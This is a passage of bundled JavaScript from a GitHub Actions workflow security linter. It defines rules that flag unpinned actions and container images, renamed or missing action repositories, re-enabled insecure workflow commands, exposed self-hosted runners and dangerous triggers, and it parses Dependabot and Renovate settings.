    category: "pinning",
    severity: "low",
    summary: "An action's repository has another name today",
    risk: "The old name leads on only as long as nobody takes it. Who registers it has code in your job.",
    mend: "Write the new name.",
    sources: ["https://docs.github.com/repositories/creating-and-managing-repositories/renaming-a-repository"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository")
            return;
        const today = upstream?.aboutOf(target)?.fullName;
        const name = `${target.owner}/${target.repo}`;
        if (today === undefined || today.toLowerCase() === name.toLowerCase())
            return;
        report(uses.scalar, `\`${name}\` is called \`${today}\` today`, {
            witness: { ...usesWitness(uses, target, upstream), today },
        });
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/stale-action-refs.js



/* harmony default export */ const stale_action_refs = (defineRule({
    id: "stale-action-refs",
    category: "pinning",
    severity: "low",
    persona: "pedantic",
    isZizmor: true,
    summary: "A pinned commit has no tag",
    risk: "It is no release: nobody promised that it works, advisories don't speak of it, and tools that update pins don't know what comes after it.",
    mend: "Pin to the commit of a release.",
    sources: ["https://docs.zizmor.sh/audits/#stale-action-refs"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref))
            return;
        if (upstream.reachabilityOf(target) === "unreachable" || upstream.tagsOn(target)?.length !== 0)
            return;
        if (upstream.refsOf(target)?.tagObjects.has(target.ref.toLowerCase()))
            return;
        const message = `No tag of \`${target.owner}/${target.repo}\` is at \`${target.ref.slice(0, 12)}\``;
        report(uses.scalar, message, { witness: usesWitness(uses, target, upstream) });
    },
}));

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/knowledge/lists/must-stay-on-tag.js
var must_stay_on_tag = __nccwpck_require__(4877);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/knowledge/must-stay-on-tag.js

/**
 * Has a reference to be called by its version tag?
 *
 * @param uses `owner/repo/path@ref`
 */
function mustStayOnTag(uses, facts) {
    const [name = "", ref = ""] = uses.split("@");
    if (!/^v\d+\.\d+\.\d+/.test(ref))
        return false;
    return facts.of(must_stay_on_tag/* default */.A).some(({ prefix }) => name.toLowerCase().startsWith(prefix.toLowerCase()));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/transitive-unpinned.js




/* harmony default export */ const transitive_unpinned = (defineRule({
    id: "transitive-unpinned",
    category: "pinning",
    severity: "medium",
    summary: "A pinned action pulls in something that isn't pinned",
    risk: "The pin protects only the first link: what the action names by a tag can be other code tomorrow, in the same job.",
    mend: "Ask its owner to pin what it uses; until then take a version, or an action, that does.",
    sources: ["https://docs.github.com/actions/reference/security/secure-use#using-third-party-actions"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream, facts } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref))
            return;
        const chains = upstream.chainsFrom(target).filter(({ leaf }) => !mustStayOnTag(leaf, facts));
        const [first, ...others] = chains;
        if (!first)
            return;
        const way = [...first.through, first.leaf].map((name) => `\`${name.replace(/@([0-9a-f]{7})[0-9a-f]{33}$/, "@$1")}\``);
        const more = others.length === 0 ? "" : ` (and ${others.length} more)`;
        report(uses.scalar, `${way.slice(0, -1).join(" uses ")} uses ${way.at(-1)}, which isn't pinned${more}`, {
            witness: {
                ...usesWitness(uses, target, upstream),
                chains: chains.slice(0, 20).map(({ through, leaf }) => [...through, leaf]),
            },
        });
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/pin-image.js

/**
 * Pins an image to the digest that its tag means today: `node:22` → `node:22@sha256:…`; nothing else changes.
 *
 * @param place where the reference stands, without quotes: an image of a Dockerfile, or `placeOfImage` of a YAML value
 * @param digest `sha256:…`, whole, as the registry said it
 * @returns null where the file doesn't hold the reference as it is (escapes, variables, a matrix), where it has a digest, and
 *   where `digest` is none
 */
function pinImageFix(place, image, digest) {
    const { file, start, end } = place;
    if (!isPinnable(image) || !(0,model/* isDigest */.Bc)(digest) || file.text.slice(start, end) !== image.text)
        return null;
    return {
        description: `pin it to the image that \`${image.text}\` is today`,
        safe: true,
        // The whole reference, so that it is plain which value changes.
        edits: [{ start, end, text: `${image.text}@${digest}` }],
    };
}
/** All is known of it, and its tag or its name ends it. */
function isPinnable({ text, name, tag }) {
    return /^[\w./:-]+$/.test(text) && name !== "" && tag !== "";
}
/**
 * Where an image reference stands in a YAML value: within quotes, behind `docker://`.
 *
 * @returns null where the value is something else, an expression for one
 */
function placeOfImage(scalar, image) {
    const { value, file } = scalar;
    const [, before = ""] = /^(\s*(?:docker:\/\/)?)/.exec(value) ?? [];
    if (value.slice(before.length).trimEnd() !== image.text)
        return null;
    return { file, ...scalar.spanOf(before.length, before.length + image.text.length) };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-image.js



/**
 * What is to be said of an image reference; null where it names a digest.
 *
 * @param origin what an unknown part of it comes from: "an expression"
 * @param needsDigest whether a tag without a digest is more than a matter of hygiene
 */
function unpinned(image, origin, needsDigest) {
    switch ((0,model/* pinningOf */.fM)(image)) {
        case "digest":
            return null;
        case "unknown":
            return unknownImage(origin);
        case "none":
            return {
                message: `\`${image.text}\` names neither a tag nor a digest: it is whatever \`latest\` is today`,
                details: {},
            };
        case "latest":
            return { message: `\`${image.text}\` is whatever was pushed last`, details: {} };
        case "tag":
            return {
                message: `\`${image.text}\` is a tag, which can be pushed again, not a digest`,
                details: {
                    ...(needsDigest ? { severity: "medium", persona: "regular" } : { severity: "low", persona: "pedantic" }),
                    confidence: (0,model/* isOpen */.nT)(image) ? "medium" : "high",
                },
            };
    }
}
/** What is to be said where nothing of the reference is known. */
function unknownImage(origin) {
    return {
        message: `The image comes from ${origin}, so nothing shows that it is pinned`,
        details: { confidence: "low" },
    };
}
/** The options of the rules on images. */
const IMAGE_OPTIONS = {
    digests: (0,config_options/* switchOption */.IL)("Take a tag without a digest for more than hygiene: medium severity, and for everyone"),
};
/**
 * Reports an image that is not pinned, with the fix that adds the digest which its registry has today.
 *
 * @param whole where the reference stands as it is; null where it is made of parts
 */
function reportImage(report, place, image, { message, details }, whole) {
    const digest = whole && isPinnable(image) ? report.repository.upstream?.digestOf(image) : undefined;
    const isGone = digest === null;
    report(place, isGone ? `${message}; its registry has no such image` : message, {
        ...details,
        fix: whole && digest ? pinImageFix(whole, image, digest) : null,
        witness: { image: image.name, ref: image.tag, digest: digest ?? null, source: digest ? "registry" : null },
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-base-image.js


/* harmony default export */ const unpinned_base_image = (defineRule({
    id: "unpinned-base-image",
    category: "pinning",
    severity: "medium",
    summary: "A Dockerfile builds on an image that is not pinned to a digest",
    risk: "The tag can be pushed again with another image at any time. The next build then runs and ships what is in it, from the same commit.",
    mend: "Name the digest, and keep the tag for readers: `FROM node:22.1@sha256:…`. Dependabot and Renovate keep it up to date.",
    sources: [
        "https://docs.docker.com/build/building/best-practices/#pin-base-image-versions",
        "https://docs.docker.com/reference/dockerfile/#understand-how-arg-and-from-interact",
    ],
    fixes: "safe",
    options: IMAGE_OPTIONS,
    examples: { flagged: [], silent: [] },
    dockerfile({ images }, report) {
        for (const image of images)
            unpinned_base_image_judge(image, report);
    },
}));
function unpinned_base_image_judge(place, report) {
    const found = unpinned(place.image, "a variable whose value isn't known", report.options.digests);
    if (!found)
        return;
    const isWhole = place.defaults.length === 0 && !isBareSource(place);
    const related = place.defaults.map((used) => ({ place: used, message: `the default of \`${used.name}\` is here` }));
    const details = { ...found.details, ...(isBareSource(place) && { confidence: "medium" }), related };
    reportImage(report, place, place.image, { message: found.message, details }, isWhole ? place : null);
}
/** A build may put a folder or another image in the place of a bare name: `--build-context tools=…`. */
function isBareSource({ role, image }) {
    return (role === "copy" || role === "mount") && image.text === image.name && !image.name.includes("/");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-images.js





/** Where an image comes from that nothing tells. */
const ORIGIN = "an expression";
/* harmony default export */ const unpinned_images = (defineRule({
    id: "unpinned-images",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    summary: "A container image is not pinned to a digest",
    risk: "The tag can be pushed again with another image at any time. What is in it then runs in your job, beside its secrets and its token.",
    mend: "Name the digest, and keep the tag for readers: `node:22.1@sha256:…`.",
    sources: ["https://docs.docker.com/reference/cli/docker/image/pull/#pull-an-image-by-digest-immutable-identifier"],
    fixes: "safe",
    options: IMAGE_OPTIONS,
    examples: { flagged: [], silent: [] },
    container({ image, job }, report) {
        if (image)
            unpinned_images_judge(image, image.value, job.matrix, report);
    },
    uses({ uses }, report) {
        if (uses.target.kind === "docker")
            judgeReference(uses.scalar, uses.target.image, [], report);
    },
    action(action, report) {
        const image = action.kind === "docker" ? action.image : undefined;
        if (!image?.value.startsWith("docker://"))
            return;
        unpinned_images_judge(image, image.value.slice("docker://".length), null, report);
    },
}));
function unpinned_images_judge(scalar, text, matrix, report) {
    const whole = (0,model/* wholeExpression */.wY)(scalar)?.expression;
    const images = whole
        ? (0,expressions/* resultLeaves */.uo)(whole).flatMap((leaf) => imagesOfLeaf(scalar, leaf, matrix))
        : imagesOfText(scalar, text, matrix);
    // Of one place only the first is told.
    for (const { place, image, related } of images.sort((a, b) => rankOf(a) - rankOf(b))) {
        if (image)
            judgeReference(place, image, related, report);
        else
            sayUnknown(place, report);
    }
}
/** What surely moves, what nobody knows, and then tags. */
const RANKS = { none: 0, latest: 0, unknown: 1, tag: 2, digest: 3 };
function rankOf({ image }) {
    return RANKS[image ? (0,model/* pinningOf */.fM)(image) : "unknown"];
}
/** `node:${{ matrix.version }}`: the image for each value that is known, told at the value. */
function imagesOfText(scalar, text, matrix) {
    return (0,model/* filledTexts */.Np)(scalar, text, matrix).map((filled) => {
        const image = (0,model/* parseImage */.zZ)(filled.text);
        const place = ((0,model/* pinningOf */.fM)(image) !== "unknown" && filled.last) || scalar;
        return { place, image, related: place === scalar ? [] : [usedHere(scalar)] };
    });
}
function usedHere(place) {
    return { place, message: "it is used here" };
}
function imagesOfLeaf(scalar, leaf, matrix) {
    const unknown = { place: scalar, image: null, related: [] };
    if (leaf.kind === "literal") {
        return typeof leaf.value === "string" ? [{ ...unknown, image: (0,model/* parseImage */.zZ)(leaf.value) }] : [];
    }
    const path = (0,expressions/* contextPath */.VJ)(leaf);
    if (path?.segments[0] !== "matrix" || !matrix)
        return [unknown];
    const { values, isOpen } = matrix.valuesOf(path.segments.slice(1));
    if (values.length === 0)
        return isOpen ? [unknown] : [];
    // Null gives an empty text, and that no container.
    return values
        .filter(({ isNull }) => !isNull)
        .map((value) => (0,model/* expressionsIn */.l$)(value).length > 0
        ? unknown
        : { place: value, image: (0,model/* parseImage */.zZ)(value.value), related: [usedHere(scalar)] });
}
function sayUnknown(scalar, report) {
    const { message, details } = unknownImage(ORIGIN);
    report(scalar, message, details);
}
function judgeReference(place, image, related, report) {
    const found = image.name === "" ? null : unpinned(image, ORIGIN, report.options.digests);
    if (!found)
        return;
    const { message, details } = found;
    reportImage(report, place, image, { message, details: { ...details, related } }, placeOfImage(place, image));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/pinning/policies.js

/** What a reference has to be: a commit, any ref, or whatever its author likes. */
const POLICIES = ["hash-pin", "ref-pin", "any"];
/** The policy of the most specific glob that matches; `hash-pin` where none does. */
function policyFor(target, policies) {
    let best = { policy: "hash-pin", weight: -1 };
    for (const [glob, policy] of policies) {
        const weight = specificity(glob);
        if (weight > best.weight && usesMatcher([glob])(target))
            best = { policy, weight };
    }
    return best.policy;
}
/** How much a glob says: the characters that it fixes; without any wildcard it beats all that have one. */
function specificity(glob) {
    const fixed = glob.replace(/[*?]|\[[^\]]*\]|\{[^}]*\}/g, "").length;
    return fixed === glob.length ? 1000 + fixed : fixed;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-uses.js







/* harmony default export */ const unpinned_uses = (defineRule({
    id: "unpinned-uses",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    fixes: "safe",
    summary: "An action or reusable workflow is not pinned to a commit",
    risk: "A tag or branch can be moved to other code at any time, by its owner or by whoever took over the account. That code then runs in your job with its secrets and its token.",
    mend: "Name the full 40-digit commit and keep the version as a comment: `uses: octo-org/thing@1234567890abcdef1234567890abcdef12345678 # v1.2.3`. `trustchain pin-actions-to-sha` finds them all.",
    sources: ["https://docs.github.com/actions/reference/security/secure-use#using-third-party-actions"],
    options: {
        policies: (0,config_options/* globMapOption */.mD)(POLICIES, "What a reference has to be, by globs of `owner/repo[/path]`, the most specific first: `hash-pin` a commit, `ref-pin` any ref, `any` whatever"),
        branches: (0,config_options/* choiceOption */.zu)(["pin", "tag", "report"], "pin", "What a fix makes of a branch: `pin` its head, `tag` the newest release, `report` nothing"),
        comment: (0,config_options/* textOption */.vU)(DEFAULT_COMMENT, "What a fix writes behind `# `; `{tag}` stands for the version"),
        "allow-immutable-tags": (0,config_options/* switchOption */.IL)("Take the tag of a release that can't be changed any more for a pin"),
    },
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        if (target.kind === "malformed" && /^[\w.-]+\/[\w./-]+@?$/.test(uses.text.trim())) {
            report(uses.scalar, `\`${uses.text.trim()}\` names no ref, let alone a full commit SHA`);
        }
        if (target.kind !== "repository" || (0,model/* isCommit */.WM)(target.ref))
            return;
        if (policyFor(target, report.options.policies) !== "hash-pin")
            return;
        const { repository } = report;
        const { upstream } = repository;
        if (repository.lock?.pinOf(uses.scalar.file.path, uses))
            return;
        const resolution = upstream?.resolve(target);
        // What isn't there can't be pinned: `unresolvable-ref` speaks.
        if (resolution?.kind === "no-ref" || resolution?.kind === "no-repository")
            return;
        if (report.options["allow-immutable-tags"] && upstream?.isImmutable(target))
            return;
        const witness = usesWitness(uses, target, upstream);
        if (mustStayOnTag(uses.text, report.repository.facts)) {
            const message = `\`${uses.text}\` has to be called by a version tag, so it can't be pinned`;
            report(uses.scalar, message, { severity: "info", witness });
        }
        else {
            const fix = upstream && unpinned_uses_fixOf({ repository, uses, target }, upstream, report.options);
            const why = repository.isLocked(uses)
                ? "; `actions.lock` has to agree with this line: relock with `gh actions-lock`"
                : "";
            report(uses.scalar, `${describe(target)}, not a full commit SHA${why}`, { fix, witness });
        }
    },
}));
function unpinned_uses_fixOf(place, upstream, options) {
    const { target } = place;
    const resolution = upstream.resolve(target);
    if (resolution.kind !== "commit")
        return null;
    if (!resolution.isBranch || options.branches === "pin") {
        return pinFix(place, resolution, describePin(target, resolution.source), options.comment);
    }
    const release = options.branches === "tag" ? upstream.newestRelease(target) : undefined;
    return release ? pinFix(place, release, `pin it to \`${release.name}\`, the newest release`, options.comment) : null;
}
/** What isn't asked upstream may have moved since. */
function describePin({ ref }, source) {
    if (source === "refs")
        return `pin it to the commit that \`${ref}\` is today`;
    return `pin it to the commit that \`${ref}\` is ${source === "lock" ? "in `actions.lock`" : "elsewhere in this repository"}`;
}
function describe({ owner, repo, path, ref }) {
    const name = [owner, repo, path].filter((part) => part !== "").join("/");
    if (/^[0-9a-f]{7,39}$/.test(ref))
        return `\`${name}\` is at \`${ref}\`, which looks like a shortened commit`;
    return `\`${name}\` is at \`${ref}\``;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unresolvable-ref.js



/* harmony default export */ const unresolvable_ref = (defineRule({
    id: "unresolvable-ref",
    category: "pinning",
    severity: "high",
    summary: "An action's repository or ref does not exist",
    risk: "The run fails, or has failed for a while unseen. And whoever registers the free name, or pushes the missing tag, has code in your job.",
    mend: "Name a repository and a tag that exist; look at how the name is spelt.",
    sources: ["https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsuses"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind === "malformed" && uses.text.includes("@")) {
            report(uses.scalar, `\`${uses.text.trim()}\` is no \`owner/repo@ref\``);
        }
        if (target.kind !== "repository" || !upstream)
            return;
        const name = `\`${target.owner}/${target.repo}\``;
        const refs = upstream.refsOf(target);
        const witness = usesWitness(uses, target, upstream);
        if (refs === null) {
            report(uses.scalar, `There is no repository ${name}, or it can't be read`, { witness });
        }
        else if (!(0,model/* isCommit */.WM)(target.ref) && upstream.resolve(target).kind === "no-ref") {
            report(uses.scalar, `${name} has neither a tag nor a branch \`${target.ref}\``, { witness });
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/runner/insecure-commands.js



const USES_COMMANDS = /::(?:set-env|add-path)\b/;
const SWITCH = "ACTIONS_ALLOW_UNSECURE_COMMANDS";
/* harmony default export */ const insecure_commands = (defineRule({
    id: "insecure-commands",
    category: "runner",
    severity: "high",
    isZizmor: true,
    fixes: "safe",
    summary: "Workflow commands that set environment variables are switched back on",
    risk: "Anything that prints to the log can then set variables and `PATH` for the steps that follow: a test's output is enough to run code.",
    mend: "Remove `ACTIONS_ALLOW_UNSECURE_COMMANDS`; write to the files that `GITHUB_ENV` and `GITHUB_PATH` name.",
    sources: ["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"],
    examples: { flagged: [], silent: [] },
    env({ block }, report) {
        if (block.dynamic) {
            const message = `This block is an expression, which may set \`${SWITCH}\``;
            report(block.dynamic, message, { confidence: "low", persona: "auditor" });
        }
        for (const { entry, name, value } of block.entries) {
            if (name.toUpperCase() !== SWITCH || !value)
                continue;
            if ((0,model/* isSwitchedOn */.JG)(value)) {
                const edit = (block.map && removeEntry(block.map, entry)) ?? removeEntry(block.parent, block.entry);
                // A step that uses the commands fails without the switch.
                const isUsed = USES_COMMANDS.test(entry.key.file.text);
                const fix = edit && { description: `remove \`${SWITCH}\``, safe: !isUsed, edits: [edit] };
                report(entry.key, "Any line of the log may set environment variables", { fix });
            }
            else if ((0,model/* constantText */._r)(value) === undefined) {
                const message = `An expression decides whether any line of the log may set environment variables`;
                report(value, message, { confidence: "low", persona: "auditor" });
            }
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/runner/self-hosted-runner.js





/* harmony default export */ const self_hosted_runner = (defineRule({
    id: "self-hosted-runner",
    category: "runner",
    severity: "high",
    isZizmor: true,
    summary: "Runs that strangers start land on a self-hosted runner",
    risk: "A self-hosted machine is used again for later runs and stands in your network. What a stranger's pull request leaves on it waits for the next job and its secrets.",
    mend: "Run jobs for pull requests on GitHub's machines, or on runners that are thrown away after each job; or let the job run only for branches of this repository: `if: github.event.pull_request.head.repo.full_name == github.repository`.",
    sources: ["https://docs.github.com/actions/reference/security/secure-use#hardening-for-self-hosted-runners"],
    examples: { flagged: [], silent: [] },
    job(job, report) {
        const { runner } = job;
        // What else there is to say, only an auditor hears.
        if (!runner || (report.persona === "regular" && !isNamedFor(job, report.repository)))
            return;
        const selfHosted = runner.labels.filter(isSelfHosted);
        const started = startedLabels(job, runner, report.repository);
        for (const [label, start] of started.values()) {
            const message = `Strangers can start this job by ${start}, and it runs on a self-hosted runner`;
            report(label.node, message, { related: usesOfLabel(label, runner) });
        }
        for (const label of selfHosted)
            if (!started.has(label.node))
                reportForAuditors(label, runner, report);
        if (selfHosted.length > 0 || started.size > 0)
            return;
        if (runner.group)
            reportUnsure(runner.group, "A runner group may hold self-hosted runners", report);
        else if (runner.isOpen)
            reportUnsure(runner.entry.value, "This expression may come to a self-hosted runner", report);
    },
}));
const NAMES_IT = /self-hosted/i;
/** Do its file or those that call it hold the name? That is cheaper than to find out who starts it. */
function isNamedFor({ workflow }, repository) {
    const callers = repository.callersOf(workflow).map((call) => call.workflow);
    return [workflow, ...callers].some(({ file }) => NAMES_IT.test(file.text));
}
function isSelfHosted({ text }) {
    return text.toLowerCase() === "self-hosted";
}
/**
 * By its place, each self-hosted label on which strangers can start the job, with the first event by which they can, as
 * Markdown; conditions that keep them out are seen through.
 */
function startedLabels(job, runner, repository) {
    const found = new Map();
    const events = new Set(repository.workflows.flatMap(({ triggers }) => triggers.map(({ event }) => event)));
    for (const event of events) {
        if (!isFiredByAnyone(event) || keepsStrangersOut(job, event))
            continue;
        for (const start of startsBy(event, job.workflow, repository)) {
            const inputs = inputsGiven(job.workflow, start);
            const labels = runner.labelsWhere((expression) => strangersRuns(expression, event, inputs)).filter(isSelfHosted);
            for (const label of labels) {
                if (!found.has(label.node))
                    found.set(label.node, [label, describeStart(event, start)]);
            }
        }
    }
    return found;
}
function usesOfLabel({ fromMatrix }, runner) {
    return fromMatrix ? [{ place: runner.entry.value, message: "it is used here" }] : [];
}
function reportForAuditors(label, runner, report) {
    const related = usesOfLabel(label, runner);
    report(label.node, "This job runs on a self-hosted runner", { severity: "medium", persona: "auditor", related });
}
function reportUnsure(place, message, report) {
    report(place, message, { severity: "medium", confidence: "low", persona: "auditor" });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/triggers/dangerous-triggers.js


const WHY = {
    pull_request_target: "`pull_request_target` runs with this repository's secrets and token for pull requests of strangers",
    workflow_run: "`workflow_run` runs with this repository's secrets and token after workflows that strangers can start",
    issue_comment: "`issue_comment` runs with this repository's secrets and token whenever a stranger writes a comment",
};
/* harmony default export */ const dangerous_triggers = (defineRule({
    id: "dangerous-triggers",
    category: "triggers",
    severity: "high",
    isZizmor: true,
    summary: "Strangers can start this workflow with the repository's own rights",
    risk: "The run has a write token and the secrets, and its cache is the default branch's. One step that builds, tests or only prints what the stranger sent gives all of that away.",
    mend: "Use `pull_request`, which gets neither secrets nor a write token from a fork. Where that isn't enough, split the work: an unprivileged workflow for the stranger's code, and one for the rest that only reads its results as data.",
    sources: [
        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
        "https://docs.github.com/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target",
    ],
    examples: { flagged: [], silent: [] },
    workflow(workflow, report) {
        for (const trigger of workflow.triggers) {
            const message = WHY[trigger.event];
            if (message === undefined || isLoneLabeler(trigger, workflow))
                continue;
            const isHarmless = workflow.jobs.every((job) => holdsNothing(holdingsOf(job)) && !bringsInOthersCode(job));
            report(trigger.key, message, { confidence: isHarmless ? "low" : "medium" });
        }
    },
}));
function isLoneLabeler(trigger, workflow) {
    const [job, ...others] = workflow.jobs;
    if (trigger.event !== "pull_request_target" || job?.kind !== "normal" || others.length > 0)
        return false;
    return job.steps.length === 1 && job.steps[0]?.uses?.is("actions/labeler") === true;
}
/** May code or files that the run's cause brought get into the job? Whatever isn't plainly harmless counts. */
function bringsInOthersCode(job) {
    return job.kind === "reusable" || job.steps.some(fetchesOthersCode);
}
const FETCHES = /\bgh\s+(?:pr|run)\b|refs\/pull|\bpull\/|\bgit\b|head_|head\./;
function fetchesOthersCode(step) {
    const { uses, run } = step;
    if (run)
        return FETCHES.test(run.text);
    if (!uses)
        return false;
    if (uses.is("actions/checkout"))
        return step.input("ref") !== undefined || step.input("repository") !== undefined;
    return uses.target.kind !== "repository" || !uses.text.startsWith("actions/") || uses.is("actions/download-artifact");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/dependabot-merge.js


/** Actions that merge Dependabot's pull requests, in lower case. */
const MERGING_ACTIONS = new Set([
    "ahmadnassri/action-dependabot-auto-merge",
    "fastify/github-action-merge-dependabot",
    "koj-co/dependabot-pr-action",
    "ridedott/merge-me-action",
    "lewagon/dependabot-auto-merge",
]);
const MENTIONS_DEPENDABOT = /dependabot/i;
/** Where a step merges a pull request of Dependabot's without anybody looking at it; null where it doesn't. */
function dependabotMerge(step) {
    const { uses, run, owner } = step;
    if (uses?.target.kind === "repository")
        return MERGING_ACTIONS.has((0,model/* nameOf */.Vb)(uses.target)) ? uses.scalar : null;
    if (!run?.scalar.mayContain("merge") || !MENTIONS_DEPENDABOT.test(owner.file.text))
        return null;
    for (const command of run.script.commands) {
        const { name, args } = (0,lib_shell/* effectiveCommand */.l1)(command);
        const [first, second] = args.filter(({ literal }) => !literal?.startsWith("-"));
        if (name?.literal !== "gh" || first?.literal !== "pr" || second?.literal !== "merge")
            continue;
        return { file: run.scalar.file, ...run.scalar.spanOf(command.start, command.end) };
    }
    return null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/release-age.js
const UNITS = new Map([
    ["minute", 1 / 1440],
    ["hour", 1 / 24],
    ["day", 1],
    ["week", 7],
    ["month", 30],
    ["year", 365],
]);
const SHORT = {
    m: "minute",
    min: "minute",
    h: "hour",
    hr: "hour",
    d: "day",
    w: "week",
    mo: "month",
    y: "year",
};
/**
 * The days that an age of Renovate's stands for: `14 days`, `1 week`, `36h`; undefined for anything else.
 *
 * @see Renovate documentation, `minimumReleaseAge`
 */
function daysOf(age) {
    const match = /^\s*(\d{1,6}(?:\.\d{1,3})?)\s*([a-z]{1,8})\s*$/i.exec(age);
    if (!match)
        return undefined;
    const word = match[2].toLowerCase();
    const unit = UNITS.get(SHORT[word] ?? word.replace(/s$/, ""));
    return unit === undefined ? undefined : Number(match[1]) * unit;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/renovate-presets.js
/**
 * Renovate's own presets, as far as they matter here; all others of its own say nothing of it.
 *
 * @see Renovate documentation, "Presets": Default, Docker, Helpers, Security, npm and Full Config Presets
 */
const PRESETS = new Map([
    [
        "config:best-practices",
        { extends: ["docker:pinDigests", "helpers:pinGitHubActionDigests", "security:minimumReleaseAgeNpm"] },
    ],
    ["docker:pinDigests", { pins: { docker: true } }],
    ["helpers:pinGitHubActionDigests", { pins: { actions: true } }],
    ["helpers:pinGitHubActionDigestsToSemver", { pins: { actions: true } }],
    [":pinDigests", { pins: { actions: true, docker: true } }],
    [":pinDigestsDisabled", { pins: { actions: false, docker: false } }],
    ["security:minimumReleaseAgeNpm", { releaseAge: { datasource: "npm", days: 3 } }],
    ["npm:unpublishSafe", { releaseAge: { datasource: "npm", days: 3 } }],
    [":automergeAll", { automerge: true }],
    [":automergeDigest", { automerge: true }],
    [":automergeMajor", { automerge: true }],
    [":automergeMinor", { automerge: true }],
    [":automergePatch", { automerge: true }],
    [":automergeStableNonMajor", { automerge: true }],
    [":automergeLinters", { automerge: true }],
    [":automergeTesters", { automerge: true }],
    [":automergeTypes", { automerge: true }],
    [":automergeDisabled", { automerge: false }],
]);
/**
 * Does a preset come from elsewhere, so that nobody here knows what it says?
 *
 * @see Renovate documentation, "Presets": those of its own are named `group:name` or `:name`
 */
function isRemotePreset(name) {
    return !OWN.test(name.replace(/\(.*$/s, ""));
}
/** The groups of presets that come with Renovate; `default:x` is `:x`. */
const OWN = /^(?:abandonments|config|customManagers|default|docker|global|group|helpers|mergeConfidence|monorepo|npm|packages|preview|regexManagers|replacements|schedule|security|workarounds|):[\w.-]+$/;
/** Without its arguments, and under one name. */
function presetName(name) {
    return name.replace(/\(.*$/s, "").replace(/^default:/, ":");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/renovate.js


const renovate_cache = new WeakMap();
/**
 * What Renovate's settings come to; null where that can't be known, for they extend presets of elsewhere, or it is switched
 * off. Package rules are applied in their order, so that the last one that matches wins.
 *
 * @see Renovate documentation, "Configuration Options", `packageRules`
 */
function judgeRenovate(renovate) {
    let verdict = renovate_cache.get(renovate);
    if (verdict === undefined) {
        verdict = isOff(renovate) || isOpen(renovate.root) ? null : verdictOf(renovate.root);
        renovate_cache.set(renovate, verdict);
    }
    return verdict;
}
/** Is Renovate switched off here? */
function isOff({ root }) {
    return root.scalar("enabled")?.typed === false;
}
/** What it extends is elsewhere; rules may extend presets, too. */
function isOpen(root) {
    const ignored = new Set(textsIn(root.get("ignorePresets")).map(({ value }) => value));
    const maps = [root, ...rulesIn(root)];
    const presets = maps.flatMap((map) => textsIn(map.get("extends")));
    return presets.some(({ value }) => !ignored.has(value) && isRemotePreset(value));
}
function verdictOf(root) {
    const state = new State();
    const ignored = new Set(textsIn(root.get("ignorePresets")).map(({ value }) => presetName(value)));
    for (const preset of textsIn(root.get("extends")))
        state.extend(presetName(preset.value), preset, ignored);
    state.settings(root, EVERYTHING);
    for (const name of ["github-actions", "docker", "dockerfile"]) {
        const manager = root.map(name);
        if (manager)
            state.settings(manager, {
                ...EVERYTHING,
                isAll: false,
                pins: [name === "github-actions" ? "actions" : "docker"],
            });
    }
    for (const rule of rulesIn(root)) {
        const scope = scopeOf(rule);
        for (const preset of textsIn(rule.get("extends")))
            state.extend(presetName(preset.value), preset, ignored);
        if (scope)
            state.settings(rule, scope);
    }
    const managers = textsIn(root.get("enabledManagers")).map(({ value }) => value);
    return { ...state.verdict(), updatesActions: managers.length === 0 || managers.includes("github-actions") };
}
const EVERYTHING = { isAll: true, pins: ["actions", "docker"], datasource: null };
/** Keys by which a rule picks single packages: an exception that somebody thought about. */
const PICKS_PACKAGES = /^(?:match|exclude)(?:Package|Dep|Source|Registry|Current|File|Base|Repositories|Confidence|New|Jsonata)/;
/** Null for a rule about single packages. */
function scopeOf(rule) {
    const matchers = rule.entries.filter(({ key }) => /^(?:match|exclude)[A-Z]/.test(key.value));
    const narrowing = matchers.filter(({ key, value }) => !(PICKS_PACKAGES.test(key.value) && takesAll(value)));
    if (narrowing.some(({ key }) => PICKS_PACKAGES.test(key.value)))
        return null;
    const words = (name) => textsIn(rule.get(name)).map(({ value }) => value);
    const managers = words("matchManagers");
    const datasources = words("matchDatasources");
    const isAll = narrowing.every(({ key }) => key.value === "matchUpdateTypes" && coversUpdates(words("matchUpdateTypes")));
